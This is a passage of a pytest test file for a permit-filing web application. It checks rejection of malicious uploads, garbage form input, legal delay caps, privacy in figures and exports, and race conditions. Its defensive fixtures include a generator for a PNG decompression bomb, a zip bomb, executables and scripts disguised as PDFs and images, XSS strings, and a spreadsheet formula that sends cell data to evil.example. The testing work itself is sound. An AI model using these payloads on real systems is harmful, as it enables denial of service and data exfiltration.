        "/figures/commune?within=" + "x" * 40,
        "/index?year=abc",
        "/figures/commune?year=2026",
    ):
        answer = anonymous.get(API + url)
        assert 400 <= answer.status_code < 500 or url.endswith("2026"), (url, answer.status_code)
        no_500(answer, url)


def test_an_unknown_or_unpublished_procedure_is_404(procedure, applicant):
    Procedure.objects.filter(pk=procedure.pk).update(published=False)
    client = signed_in(applicant)
    refused_in_json(client.get(f"{API}/catalogue/{procedure.code}"), 404)
    answer = client.post(
        f"{API}/catalogue/{procedure.code}/dossiers",
        json.dumps({"commune_code": "04.501.01.07"}),
        content_type="application/json",
    )
    refused_in_json(answer, 404)
    assert client.get(reverse("procedures:start", args=[procedure.code])).status_code == 404


# --- Uploads ----------------------------------------------------------------------------------------------------------


def png_bomb(width=30000, height=30000):
    """A 1-bit PNG of width × height pixels: half a megabyte, 2.7 GB once decoded."""

    def chunk(kind, body):
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(1)
    rows = row * 1000
    pixels = b"".join(compressor.compress(rows) for _ in range(height // 1000)) + compressor.flush()
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def zip_bomb():
    """A zip of a 50 MB file of zeros, under 100 KB."""
    output = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("plans.pdf", b"\x00" * 50_000_000)
    return output.getvalue()


LYING_FILES = [
    ("windows program named pdf", b"MZ\x90\x00" + b"\x00" * 200, "plans.pdf", "application/pdf"),
    ("html named pdf", b"<html><script>alert(1)</script></html>", "plans.pdf", "application/pdf"),
    ("svg named png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "plans.png", "image/png"),
    ("empty", b"", "plans.pdf", "application/pdf"),
    ("pdf header only", b"%PDF-1.7\n%%EOF\n", "plans.pdf", "application/pdf"),
    ("pdf with javascript", samples.pdf(OpenAction=samples._javascript()), "plans.pdf", "application/pdf"),
    ("pdf then html", samples.pdf() + b"<html></html>", "plans.pdf", "application/pdf"),
    ("png then zip", samples.png() + zip_bomb()[:2000], "plans.png", "image/png"),
    ("zip bomb", zip_bomb(), "plans.zip", "application/zip"),
    ("zip bomb named pdf", zip_bomb(), "plans.pdf", "application/pdf"),
    ("png decompression bomb", png_bomb(), "plans.png", "image/png"),
    ("truncated png", samples.png()[:40], "plans.png", "image/png"),
]


@pytest.mark.parametrize(("what", "data", "name", "content_type"), LYING_FILES, ids=[row[0] for row in LYING_FILES])
def test_a_file_that_lies_or_attacks_is_refused_with_a_message_and_the_draft_kept(
    draft, applicant, what, data, name, content_type
):
    client = signed_in(applicant, "fr")
    put_answers(client, draft, {"use": "individual_housing", "area": "80"})
    refused_in_json(upload(client, draft, "plans", data, name, content_type), 413, 422)
    page = client.post(
        reverse("procedures:attach", args=[draft.pk]),
        {"_form": "1", "use": "individual_housing", "area": "80",
         "upload.plans": SimpleUploadedFile(name, data, content_type=content_type)},
    )  # fmt: skip
    assert page.status_code == 200 and 'class="errorlist"' in page.text and 'value="80"' in page.text
    assert not Attachment.objects.filter(dossier=draft).exists()
    draft.refresh_from_db()
    assert draft.answers == {"use": "individual_housing", "area": "80.00"}


def test_a_file_over_the_limit_is_refused_while_it_arrives(draft, applicant):
    client = signed_in(applicant)
    too_big = samples.pdf(b"BT (" + b"x" * (6 * 1024 * 1024) + b") Tj ET")
    answer = upload(client, draft, "plans", too_big)
    refused_in_json(answer, 413, 422)
    assert not Attachment.objects.exists()


def test_an_upload_without_a_file_or_as_json_is_a_4xx(draft, applicant):
    client = signed_in(applicant)
    url = f"{API}/dossiers/{draft.pk}/attachments"
    for answer in (
        client.post(url, {"path": "plans"}),
        client.post(url, json.dumps({"path": "plans", "file": "JVBERi0xLjc="}), content_type="application/json"),
        client.post(url, {"path": "p" * 500, "file": SimpleUploadedFile("a.pdf", samples.pdf())}),
    ):
        assert 400 <= answer.status_code < 500, answer.content[:200]
    no_file = signed_in(applicant).post(reverse("procedures:attach", args=[draft.pk]), {"path": "plans"}, **HX)
    assert no_file.status_code == 200 and 'class="errorlist"' in no_file.text


def test_garbage_posted_to_the_form_pages_is_never_a_500(draft, applicant, with_blocks, temara):
    blocks = filing.start_draft(applicant, with_blocks, commune=temara)
    client = signed_in(applicant)
    for dossier in (draft, blocks):
        for data in (
            {"_form": "1", "_remove": "lots.9999"},
            {"_form": "1", "_remove": "lots.-1"},
            {"_form": "1", "_remove": "../.."},
            {"_form": "1", "_remove": "plans.0"},
            {"_form": "1", "_add": "plans"},
            {"_form": "1", "_add": "nothing"},
            {"_form": "1", "lots.entries": "99999", "lots.450.area": "3"},
            {"_form": "1", "lots.entries": "-3"},
            {"_form": "1", "area": "x" * 100_000, "site.commune": "‮", "point.lat": "1e999"},
            {"_form": "1", "applicant.idcs": "x" * 1000, "applicant.birth_date": "0000-00-00"},
            {"_form": ["1", "2"], "use": ["a", "b", "c"]},
        ):
            for name in ("save", "file", "link", "answer"):
                answer = client.post(reverse(f"procedures:{name}", args=[dossier.pk]), data)
                no_500(answer, (name, data))
                answer = client.post(reverse(f"procedures:{name}", args=[dossier.pk]), data, **HX)
                no_500(answer, (name, "htmx", data))
    draft.refresh_from_db()
    assert draft.state == DossierState.DRAFT


def test_garbage_posted_to_the_office_pages_is_never_a_500(filed, permits_agent, president):
    for person in (permits_agent, president):
        client = signed_in(person)
        for step in ("take_up", "assign", "request_information", "write_office", "approve", "refuse", "reexamine"):
            for data in ({}, {"agent": "abc", "reason": "nonsense", "message": "x" * 100_000},
                         {"agent": "999999999", "reasons": "\u202e", "conditions": "<script>", "body": ""},
                         {"tax_exemption": "x" * 1000, "private": "maybe"}):  # fmt: skip
                no_500(client.post(reverse(f"procedures:{step}", args=[filed.pk]), data), (step, data))
    filed.refresh_from_db()
    assert filed.decision_id is None or filed.state in (DossierState.APPROVED, DossierState.REFUSED)


# --- Law 55-19 through the catalogue ----------------------------------------------------------------------------------


def definition_with(*requirements, fields=None):
    return {
        "requirements": [{"kind": "plans", "label": labels("Plans")}, *requirements],
        "fields": fields or [{"key": "plans", "type": "file", "document": "plans", "label": labels("Plans")}],
    }


def refusal_of(definition):
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        catalogue.check_definition(definition, through_commission=False)
    with translation.override("en"):
        return " ".join(str(message) for message in refused.value.messages)


@pytest.mark.parametrize(("form", "said"), [("certified_copy", "certified copy"), ("legalised_signature", "legalised")])
def test_a_certified_copy_or_a_legalised_signature_is_never_asked(form, said):
    definition = definition_with(
        {"kind": "deed", "label": labels("Deed"), "form": form},
        fields=[
            {"key": "plans", "type": "file", "document": "plans", "label": labels("Plans")},
            {"key": "deed", "type": "file", "document": "deed", "label": labels("Deed")},
        ],
    )
    assert said in refusal_of(definition)


def test_a_document_an_administration_holds_is_never_uploaded():
    for source in ("another_administration", "civil_status_register"):
        definition = definition_with(
            {"kind": "land_title", "label": labels("Land title"), "source": source},
            fields=[
                {"key": "applicant", "type": "civil_status_link", "label": labels("You")},
                {"key": "plans", "type": "file", "document": "plans", "label": labels("Plans")},
                {"key": "title", "type": "file", "document": "land_title", "label": labels("Title")},
            ],
        )
        assert "pulled, not uploaded" in refusal_of(definition), source


def test_the_same_document_is_never_asked_twice():
    twice_listed = definition_with({"kind": "plans", "label": labels("Plans again")})
    assert "twice" in refusal_of(twice_listed)
    two_fields = definition_with(
        fields=[
            {"key": "plans", "type": "file", "document": "plans", "label": labels("Plans")},
            {"key": "plans_again", "type": "file", "document": "plans", "label": labels("Plans again")},
        ]
    )
    assert "twice" in refusal_of(two_fields)
    in_a_block_too = definition_with(
        fields=[
            {"key": "plans", "type": "file", "document": "plans", "label": labels("Plans")},
            {"key": "lots", "type": "repeat", "label": labels("Lots"), "fields": [
                {"key": "plan", "type": "file", "document": "plans", "label": labels("Plan")}]},
        ]
    )  # fmt: skip
    assert "twice" in refusal_of(in_a_block_too)


@pytest.mark.parametrize(
    ("days", "investment", "refused"),
    [(60, False, False), (61, False, True), (365, False, True), (30, True, False), (31, True, True), (0, False, True),
     (-5, False, True), (True, False, True), ("30", False, True), (30.0, False, True)],
)  # fmt: skip
def test_a_delay_above_the_law_s_cap_is_refused_not_shortened(tmp_path, days, investment, refused):
    source = json.loads((loading.DEFINITIONS_DIR / "building_permit_small.json").read_text(encoding="utf-8"))
    source.update(delay_days=days, investment_project=investment)
    path = tmp_path / "building_permit_small.json"
    path.write_text(json.dumps(source), encoding="utf-8")
    if refused:
        with pytest.raises(ValidationError) as error:
            loading.read_definition(path)
        assert any("delay_days" in message for message in error.value.messages)
    else:
        assert loading.read_definition(path).values["delay_days"] == days


def test_the_admin_form_refuses_a_delay_above_60_days_and_a_certified_copy(procedure):
    current = dict(procedure.current_version.definition)
    certified = {**current, "requirements": [{**current["requirements"][0], "form": "certified_copy"},
                                             *current["requirements"][1:]]}  # fmt: skip
    data = {
        name: getattr(procedure, name) for name in procedures_admin.ProcedureForm.Meta.fields if name not in ("code",)
    }
    data.update(code=procedure.code, delay_days=75, definition=json.dumps(certified))
    form = procedures_admin.ProcedureForm(data=data, instance=procedure)
    assert not form.is_valid()
    assert "delay_days" in form.errors and "definition" in form.errors
    assert procedure.versions.count() == 1


def test_every_shipped_definition_keeps_the_law(tmp_path):
    report = loading.load_definitions()
    assert not report.refused, [(one.file, one.errors) for one in report.refused]
    for procedure_ in Procedure.objects.all():
        cap = 30 if procedure_.investment_project else 60
        assert procedure_.delay_days <= cap, procedure_.code
        for requirement in procedure_.current_version.form.requirements:
            assert requirement.form not in ("certified_copy", "legalised_signature"), procedure_.code


# --- The legal clocks -----------------------------------------------------------------------------------------------


def test_a_delay_above_the_cap_set_on_the_procedure_is_capped_at_filing(
    procedure, draft, applicant, applicant_act, birth_data, temara_window
):
    Procedure.objects.filter(pk=procedure.pk).update(delay_days=400)
    complete(draft, applicant, applicant_act, birth_data)
    filed_ = filing.file_dossier(Dossier.objects.get(pk=draft.pk), by=applicant)
    assert filed_.delay_days == 60
    clock = clock_of(filed_)
    assert clock.due_at - filed_.filed_at <= timedelta(days=60, seconds=1)
    api = Client().get(f"{API}/catalogue/{procedure.code}").json()
    assert api["delay_days"] == 60


def test_an_investment_project_s_delay_is_capped_at_30_days(
    procedure, draft, applicant, applicant_act, birth_data, temara_window
):
    Procedure.objects.filter(pk=procedure.pk).update(delay_days=60, investment_project=True)
    complete(draft, applicant, applicant_act, birth_data)
    filed_ = filing.file_dossier(Dossier.objects.get(pk=draft.pk), by=applicant)
    assert filed_.delay_days == 30 and clock_of(filed_).due_at - filed_.filed_at <= timedelta(days=30, seconds=1)


def test_a_delay_in_working_days_never_runs_past_60_calendar_days(
    procedure, draft, applicant, applicant_act, birth_data, temara_window
):
    Procedure.objects.filter(pk=procedure.pk).update(delay_days=60, delay_in_working_days=True)
    complete(draft, applicant, applicant_act, birth_data)
    filed_ = filing.file_dossier(Dossier.objects.get(pk=draft.pk), by=applicant)
    assert clock_of(filed_).due_at - filed_.filed_at <= timedelta(days=61)


def test_a_pause_near_the_end_gives_back_only_what_was_left(filed, permits_agent, applicant):
    started = clock_of(filed).started_at
    review.take_up(filed, by=permits_agent)
    with at(started + timedelta(days=9, hours=20)):  # 4 hours left of 10 days
        review.request_information(filed, by=permits_agent, reason="incomplete", message="La façade manque.")
    assert clock_of(filed).remaining == timedelta(hours=4)
    assert run_due_clocks(now=started + timedelta(days=30)) == 0  # paused: the delay does not run out
    answered = started + timedelta(days=40)
    with at(answered):
        review.answer_request(filed, by=applicant, message="Voici.")
    assert clock_of(filed).due_at == answered + timedelta(hours=4)
    assert run_due_clocks(now=answered + timedelta(hours=3)) == 0
    assert run_due_clocks(now=answered + timedelta(hours=4, seconds=1)) == 1
    filed.refresh_from_db()
    assert filed.state == DossierState.APPROVED_BY_SILENCE


def test_a_pause_does_not_change_the_days_left_shown(filed, permits_agent):
    started = clock_of(filed).started_at
    review.take_up(filed, by=permits_agent)
    moment = started + timedelta(days=7, hours=12)  # 2 days and 12 hours left: "3 days" while it runs
    with at(moment):
        running = selectors.decision_delay_left(Dossier.objects.get(pk=filed.pk))
        review.request_information(filed, by=permits_agent, reason="incomplete", message="La façade manque.")
        paused = selectors.decision_delay_left(Dossier.objects.get(pk=filed.pk))
    assert running.days == 3 and paused.paused
    assert paused.days == running.days


def test_a_delay_in_working_days_skips_the_weekend_and_holidays(
    procedure, draft, applicant, applicant_act, birth_data, temara_window
):
    Procedure.objects.filter(pk=procedure.pk).update(delay_days=3, delay_in_working_days=True)
    thursday = date(2026, 12, 3)
    Holiday.objects.get_or_create(
        date=date(2026, 12, 7), defaults={"name_ar": "عطلة", "name_fr": "Férié", "kind": "national"}
    )
    forget_versions()
    complete(draft, applicant, applicant_act, birth_data)
    with at(local(thursday)):
        filed_ = filing.file_dossier(Dossier.objects.get(pk=draft.pk), by=applicant)
    # Thursday does not count: Friday, (weekend), (Monday's holiday), Tuesday, Wednesday -> due Thursday 00:00.
    assert clock_of(filed_).due_at == local(date(2026, 12, 10), 0)
    assert run_due_clocks(now=local(date(2026, 12, 9), 23)) == 0
    assert run_due_clocks(now=local(date(2026, 12, 10), 0)) == 1
    filed_.refresh_from_db()
    assert filed_.state == DossierState.APPROVED_BY_SILENCE


def test_silence_never_approves_a_procedure_that_says_it_does_not(
    procedure, draft, applicant, applicant_act, birth_data, temara_window, permits_agent
):
    Procedure.objects.filter(pk=procedure.pk).update(silence_means_approval=False)
    complete(draft, applicant, applicant_act, birth_data)
    filed_ = filing.file_dossier(Dossier.objects.get(pk=draft.pk), by=applicant)
    Procedure.objects.filter(pk=procedure.pk).update(silence_means_approval=True)  # changed after the filing
    later = timezone.now() + timedelta(days=200)
    run_due_clocks(now=later)
    run_due_clocks(now=later + timedelta(days=1))
    filed_.refresh_from_db()
    assert filed_.state == DossierState.FILED and filed_.decision_id is None
    assert clock_of(filed_).state == ClockState.EXPIRED
    row = signed_in(permits_agent).get(f"{API}/office/dossiers").json()[0]
    assert row["delay_left"]["late"] is True


def test_silence_approves_as_filed_even_if_the_procedure_changes_afterwards(filed, procedure, committed):
    Procedure.objects.filter(pk=procedure.pk).update(silence_means_approval=False, delay_days=60)
    assert run_due_clocks(now=timezone.now() + timedelta(days=11)) == 1
    committed()
    filed.refresh_from_db()
    assert filed.state == DossierState.APPROVED_BY_SILENCE
    assert filed.decision.kind == "silence_attestation"


def test_a_reexamined_dossier_approved_by_silence_gets_its_attestation(filed, permits_agent, president, committed):
    review.take_up(filed, by=permits_agent)
    review.refuse(filed, by=president, reasons="Hauteur supérieure au plan.")
    review.reexamine(filed, by=president, reason="Recours gracieux du demandeur")
    assert run_due_clocks(now=timezone.now() + timedelta(days=11)) == 1
    committed()
    filed.refresh_from_db()
    assert filed.state == DossierState.APPROVED_BY_SILENCE
    assert filed.decision.kind == "silence_attestation"


def test_no_refusal_after_the_delay_ran_out(filed, permits_agent, president):
    review.take_up(filed, by=permits_agent)
    due = clock_of(filed).due_at
    # The sweep runs every five minutes: three minutes after the delay ran out, it has not taken the dossier yet.
    with at(due + timedelta(minutes=3)), contextlib.suppress(ValidationError, PermissionDenied):
        review.refuse(filed, by=president, reasons="Trop tard, mais refusé.")
    filed.refresh_from_db()
    assert filed.state != DossierState.REFUSED


# --- Privacy: the public figures and the exports -------------------------------------------------------------------


def test_the_public_figures_name_nobody(
    filed, permits_agent, president, applicant, applicant_act, taken_up_large, members
):
    # `filed` shares its procedure with the large project, which now goes to the commission: decided here directly.
    Dossier.objects.filter(pk=filed.pk).update(
        state=DossierState.APPROVED, decided_at=timezone.now(), decision_reasons="Respect du retrait de 4 m."
    )
    commission.give_opinion(
        Opinion.objects.get(dossier=taken_up_large, member=CommissionMember.URBAN_AGENCY),
        by=members[CommissionMember.URBAN_AGENCY], verdict="conditional", text="Recul de 5 m.",
    )  # fmt: skip
    names = {applicant.full_name, permits_agent.full_name, president.full_name, applicant_act.idcs, "يوسف",
             members[CommissionMember.URBAN_AGENCY].full_name, "Recul de 5 m", "retrait de 4 m"}  # fmt: skip
    anonymous = Client()
    answers = [anonymous.get(f"{API}/figures/{level}") for level in ("office", "commune", "province", "region")]
    answers += [anonymous.get(f"{API}/figures/commune?within=04.501"), anonymous.get(f"{API}/index")]
    for answer in answers:
        assert answer.status_code == 200
        for name in names:
            assert name not in answer.text, name
    temara_row = next(row for row in answers[1].json() if row["code"] == "04.501.01.07")
    assert temara_row["filed"] == 2 and temara_row["decided"] == 1
    quarter = figures.Quarter.of(timezone.localdate())
    for place in figures.quarter_figures("commune", quarter):
        assert set(place.as_dict()) == {
            "code", "name_ar", "name_fr", "filed", "decided", "average_delay_days", "p90_delay_days",
            "average_legal_delay_days", "decided_within_legal_delay", "decided_by_silence", "filed_online",
            "opinions", "opinions_late", "partners_on_time", "tax_per_m2",
        }  # fmt: skip


def test_an_export_requested_by_someone_who_reads_nothing_is_empty(filed, applicant, committed):
    export = exports.request_export(applicant, format="xlsx")
    committed()
    export.refresh_from_db()
    assert export.total == 0
    rows = list(load_workbook(io.BytesIO(export.file.read()), read_only=True).active.values)
    assert len(rows) == 1


def test_an_export_of_an_agent_whose_role_ended_before_it_was_written_holds_nothing(filed, permits_agent, temara):
    from raqmana.access.models import RoleAssignment
    from raqmana.access.services import revoke_role

    export = exports.request_export(permits_agent, format="csv")
    assignment = RoleAssignment.objects.filter(user=permits_agent).first()
    revoke_role(assignment, by=None, reason="parti")
    exports.write(export.pk)
    export.refresh_from_db()
    assert export.total == 0 and filed.reference not in export.file.read().decode("utf-8-sig")


FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Voir le dossier")'


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_an_applicant_s_name_is_never_a_formula_in_an_export(
    procedure, applicant_act, birth_data, temara, temara_window, permits_agent, committed, format
):
    assert check_text(FORMULA, TextKind.PLAIN_TEXT, max_length=200) == FORMULA  # an account takes this name
    sly = UserFactory(full_name=FORMULA)
    filed_dossier_of(sly, procedure, temara, applicant_act, birth_data)
    export = exports.request_export(permits_agent, format=format)
    committed()
    export.refresh_from_db()
    content = export.file.read()
    if format == "csv":
        cells = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


# --- Races (PostgreSQL) -----------------------------------------------------------------------------------------------


def at_once(*calls):
    """Run each call in its own thread (its own connection), all released together; returns what each gave or
    raised."""
    barrier, results = threading.Barrier(len(calls)), [None] * len(calls)

    def run(index, call):
        try:
            barrier.wait()
            results[index] = ("ok", call())
        except Exception as error:
            results[index] = ("error", error)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=run, args=(index, call)) for index, call in enumerate(calls)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


def errors_of(results):
    return [value for outcome, value in results if outcome == "error"]


race = [POSTGRESQL_ONLY, pytest.mark.django_db(transaction=True)]


@pytest.mark.parametrize("attempt", range(3))
@race[0]
@race[1]
def test_two_filings_of_one_draft_at_once_give_one_number_and_one_receipt(
    territories_in_transactional_db, procedure, applicant, applicant_act, birth_data, temara, temara_window, attempt
):
    draft_ = filing.start_draft(applicant, procedure, commune=temara)
    complete(draft_, applicant, applicant_act, birth_data)
    results = at_once(*[lambda: filing.file_dossier(draft_, by=applicant)] * 3)
    assert [outcome for outcome, _ in results].count("ok") == 1, results
    assert all(isinstance(error, ValidationError) for error in errors_of(results)), results
    draft_.refresh_from_db()
    assert draft_.state == DossierState.FILED and draft_.number == 1
    assert IssuedDocument.objects.filter(kind="dossier_receipt").count() == 1
    assert Clock.objects.filter(subject_id=str(draft_.pk), name="decision").count() == 1


@race[0]
@race[1]
def test_concurrent_filings_are_numbered_without_gap_nor_twice(
    territories_in_transactional_db, procedure, applicant_act, birth_data, temara, temara_window
):
    people = [UserFactory() for _ in range(6)]
    drafts = []
    for person in people:
        draft_ = filing.start_draft(person, procedure, commune=temara)
        complete(draft_, person, applicant_act, birth_data)
        drafts.append((draft_, person))
    # One of them fails while filing: its number must not be lost.
    broken = drafts[2][0]
    Attachment.objects.filter(dossier=broken).update(removed_at=timezone.now())
    results = at_once(*[lambda d=d, p=p: filing.file_dossier(d, by=p) for d, p in drafts])
    assert len(errors_of(results)) == 1 and isinstance(errors_of(results)[0], ValidationError)
    numbers = sorted(Dossier.objects.filter(state=DossierState.FILED).values_list("number", flat=True))
    assert numbers == [1, 2, 3, 4, 5]
    assert IssuedDocument.objects.filter(kind="dossier_receipt").count() == 5
    again = filing.start_draft(people[2], procedure, commune=temara)
    complete(again, people[2], applicant_act, birth_data)
    assert filing.file_dossier(again, by=people[2]).number == 6  # the failed filing took no number


@pytest.mark.parametrize("attempt", range(3))
@race[0]
@race[1]
def test_two_approvals_at_once_give_one_decision(
    territories_in_transactional_db,
    temara,
    procedure,
    applicant,
    applicant_act,
    birth_data,
    temara_window,
    permits_agent,
    president,
    attempt,
):
    filed_ = filed_dossier_of(applicant, procedure, temara, applicant_act, birth_data)
    review.take_up(filed_, by=permits_agent)
    results = at_once(
        lambda: review.approve(filed_, by=president),
        lambda: review.approve(filed_, by=president),
        lambda: review.refuse(filed_, by=president, reasons="Hauteur."),
    )
    assert [outcome for outcome, _ in results].count("ok") == 1, results
    assert all(isinstance(error, ValidationError) for error in errors_of(results)), results
    filed_.refresh_from_db()
    assert filed_.state in (DossierState.APPROVED, DossierState.REFUSED)
    assert IssuedDocument.objects.filter(kind="dossier_decision").count() == 1
    assert filed_.transitions.filter(to_state__in=[DossierState.APPROVED, DossierState.REFUSED]).count() == 1


@pytest.mark.parametrize("attempt", range(4))
@race[0]
@race[1]
def test_the_silence_sweep_racing_an_approval_decides_once(
    territories_in_transactional_db,
    temara,
    procedure,
    applicant,
    applicant_act,
    birth_data,
    temara_window,
    permits_agent,
    president,
    attempt,
):
    filed_ = filed_dossier_of(applicant, procedure, temara, applicant_act, birth_data)
    review.take_up(filed_, by=permits_agent)
    later = timezone.now() + timedelta(days=11)
    results = at_once(lambda: run_due_clocks(now=later), lambda: review.approve(filed_, by=president))
    filed_.refresh_from_db()
    clock = clock_of(filed_)
    if filed_.state == DossierState.APPROVED:
        assert results[0] == ("ok", 0) and clock.state == ClockState.STOPPED
        assert filed_.decision.kind == "dossier_decision"
    else:
        assert filed_.state == DossierState.APPROVED_BY_SILENCE, results
        assert results[0] == ("ok", 1) and isinstance(results[1][1], ValidationError)
        assert clock.state == ClockState.EXPIRED
        assert IssuedDocument.objects.filter(kind="silence_attestation").count() == 1
    assert IssuedDocument.objects.filter(kind__in=["dossier_decision", "silence_attestation"]).count() == 1


@pytest.mark.parametrize("attempt", range(4))
@race[0]
@race[1]
def test_an_opinion_given_while_the_runner_lapses_it(
    territories_in_transactional_db,
    temara,
    large,
    applicant,
    applicant_act,
    birth_data,
    temara_window,
    members,
    permits_agent,
    attempt,
):
    dossier = filed_dossier_of(applicant, large, temara, applicant_act, birth_data, parcelling="no")
    review.take_up(dossier, by=permits_agent)
    agency = Opinion.objects.get(dossier=dossier, member=CommissionMember.URBAN_AGENCY)
    opinion_clock = Clock.objects.get(workflow="procedures.opinion", subject_id=str(agency.pk))
    later = opinion_clock.due_at + timedelta(minutes=1)
    agency_agent = members[CommissionMember.URBAN_AGENCY]
    results = at_once(
        lambda: run_due_clocks(now=later),
        lambda: commission.give_opinion(agency, by=agency_agent, verdict="favourable", text=""),
    )  # fmt: skip
    assert not errors_of(results), results
    agency.refresh_from_db()
    opinion_clock.refresh_from_db()
    assert agency.state == OpinionState.GIVEN and agency.verdict == "favourable"
    assert opinion_clock.state in (ClockState.STOPPED, ClockState.EXPIRED)
    lapsed = agency.transitions.filter(to_state=OpinionState.LAPSED).exists()
    assert lapsed == (opinion_clock.state == ClockState.EXPIRED)  # counted late exactly when it ran out first


@pytest.mark.parametrize("attempt", range(3))
@race[0]
@race[1]
def test_an_upload_racing_the_filing_is_in_the_filed_dossier_or_refused(
    territories_in_transactional_db, procedure, applicant, applicant_act, birth_data, temara, temara_window, attempt
):
    draft_ = filing.start_draft(applicant, procedure, commune=temara)
    complete(draft_, applicant, applicant_act, birth_data)
    results = at_once(
        lambda: filing.file_dossier(draft_, by=applicant),
        lambda: attachments.attach(draft_, "plans", pdf_upload("late.pdf"), by=applicant),
    )
    draft_.refresh_from_db()
    assert draft_.state == DossierState.FILED and results[0][0] == "ok", results
    late = Attachment.objects.filter(dossier=draft_, name="late.pdf").first()
    if late is None:
        assert isinstance(results[1][1], ValidationError)
    else:
        assert late.pk in draft_.answers["plans"]  # never a file added to a dossier already filed


@pytest.mark.parametrize("attempt", range(3))
@race[0]
@race[1]
def test_three_uploads_at_once_for_the_last_place_keep_one(
    territories_in_transactional_db, procedure, applicant, temara, temara_window, attempt
):
    draft_ = filing.start_draft(applicant, procedure, commune=temara)
    for name in ("first.pdf", "second.pdf"):
        attachments.attach(draft_, "plans", pdf_upload(name), by=applicant)  # the field takes three
    results = at_once(
        *[lambda n=n: attachments.attach(draft_, "plans", pdf_upload(f"late-{n}.pdf"), by=applicant) for n in range(3)]
    )
    assert [outcome for outcome, _ in results].count("ok") == 1, results
    assert all(error.code == "too_many_files" for error in errors_of(results)), results
    assert Attachment.objects.filter(dossier=draft_, path="plans", removed_at__isnull=True).count() == 3


@pytest.mark.parametrize("attempt", range(3))
@race[0]
@race[1]
def test_an_upload_racing_the_draft_s_expiry_is_kept_on_a_draft_or_refused(
    territories_in_transactional_db, procedure, applicant, temara, temara_window, attempt
):
    from raqmana.procedures.services.drafts import expire_drafts

    draft_ = filing.start_draft(applicant, procedure, commune=temara)
    long_ago = timezone.now() - timedelta(days=400)
    Dossier.objects.filter(pk=draft_.pk).update(updated_at=long_ago, expiry_warned_at=long_ago)
    results = at_once(expire_drafts, lambda: attachments.attach(draft_, "plans", pdf_upload("late.pdf"), by=applicant))
    draft_.refresh_from_db()
    kept = Attachment.objects.filter(dossier=draft_, removed_at__isnull=True).exists()
    if draft_.state == DossierState.EXPIRED:
        assert not kept or results[1][0] == "ok", results  # kept only when it came before the expiry
        if results[1][0] == "error":
            assert results[1][1].code == "not_editable", results
    else:
        assert draft_.state == DossierState.DRAFT and kept and results[1][0] == "ok", results


# --- The commission's, the exports' and the figures' pages ---------------------------------------------------------


def route(name, *args):
    """The page's address, or the probe is skipped while that page does not exist."""
    from django.urls import NoReverseMatch

    try:
        return reverse(f"procedures:{name}", args=args)
    except NoReverseMatch:
        pytest.skip(f"no page procedures:{name} yet")


def test_a_member_of_another_province_gets_404_on_the_commission_s_pages(taken_up_large, members, member_elsewhere):
    agency = Opinion.objects.get(dossier=taken_up_large, member=CommissionMember.URBAN_AGENCY)
    commission.give_opinion(
        agency, by=members[CommissionMember.URBAN_AGENCY], verdict="conditional", text="Recul de 5 m.",
        files=[pdf_upload("note.pdf")],
    )  # fmt: skip
    note = agency.attachments.get()
    client = signed_in(member_elsewhere)
    queue = client.get(route("opinions"))
    assert queue.status_code == 200 and taken_up_large.reference not in queue.text
    assert client.get(route("member_dossier", taken_up_large.pk)).status_code == 404
    protection = Opinion.objects.get(dossier=taken_up_large, member=CommissionMember.CIVIL_PROTECTION)
    given = client.post(route("give_opinion", protection.pk), {"verdict": "unfavourable", "text": "Non."})
    assert given.status_code == 404
    assert client.get(route("opinion_file", note.pk)).status_code == 404
    stranger_citizen = signed_in(UserFactory())
    assert stranger_citizen.get(route("opinion_file", note.pk)).status_code == 404
    protection.refresh_from_db()
    assert protection.state == OpinionState.REQUESTED


def test_a_member_of_the_commission_cannot_give_another_member_s_opinion_through_the_page(taken_up_large, members):
    protection = Opinion.objects.get(dossier=taken_up_large, member=CommissionMember.CIVIL_PROTECTION)
    client = signed_in(members[CommissionMember.URBAN_AGENCY])
    assert client.get(route("member_dossier", taken_up_large.pk)).status_code == 200
    for data in ({"verdict": "favourable", "text": ""},
                 {f"opinion-{protection.pk}-verdict": "favourable", f"opinion-{protection.pk}-text": ""}):  # fmt: skip
        no_500(client.post(route("give_opinion", protection.pk), data))
    protection.refresh_from_db()
    assert protection.state == OpinionState.REQUESTED and protection.given_by is None


def test_garbage_posted_as_an_opinion_is_never_a_500(taken_up_large, members):
    agency = Opinion.objects.get(dossier=taken_up_large, member=CommissionMember.URBAN_AGENCY)
    client = signed_in(members[CommissionMember.URBAN_AGENCY])
    url = route("give_opinion", agency.pk)
    for data in ({}, {"verdict": "maybe"}, {"verdict": ["favourable", "unfavourable"]},
                 {"verdict": "unfavourable", "text": "\u202e" + "x" * 10_000},
                 {"verdict": "conditional", "text": "<script>alert(1)</script>"}):  # fmt: skip
        no_500(client.post(url, data), data)
        prefixed = {f"opinion-{agency.pk}-{key}": value for key, value in data.items()}
        no_500(client.post(url, prefixed), prefixed)
    agency.refresh_from_db()
    assert agency.state == OpinionState.REQUESTED


def test_an_export_is_downloaded_by_its_requester_only(filed, permits_agent, president, committed):
    export = exports.request_export(permits_agent, format="csv")
    committed()
    url = route("export_download", export.pk)
    assert signed_in(president).get(url).status_code == 404  # he reads Témara's dossiers, but it is not his export
    assert signed_in(UserFactory()).get(url).status_code in (302, 403, 404)
    own = signed_in(permits_agent).get(url)
    assert own.status_code == 200 and filed.reference.encode() in b"".join(own.streaming_content)


def test_the_figures_pages_name_nobody_and_take_bad_filters(filed, permits_agent, president, applicant):
    review.take_up(filed, by=permits_agent)
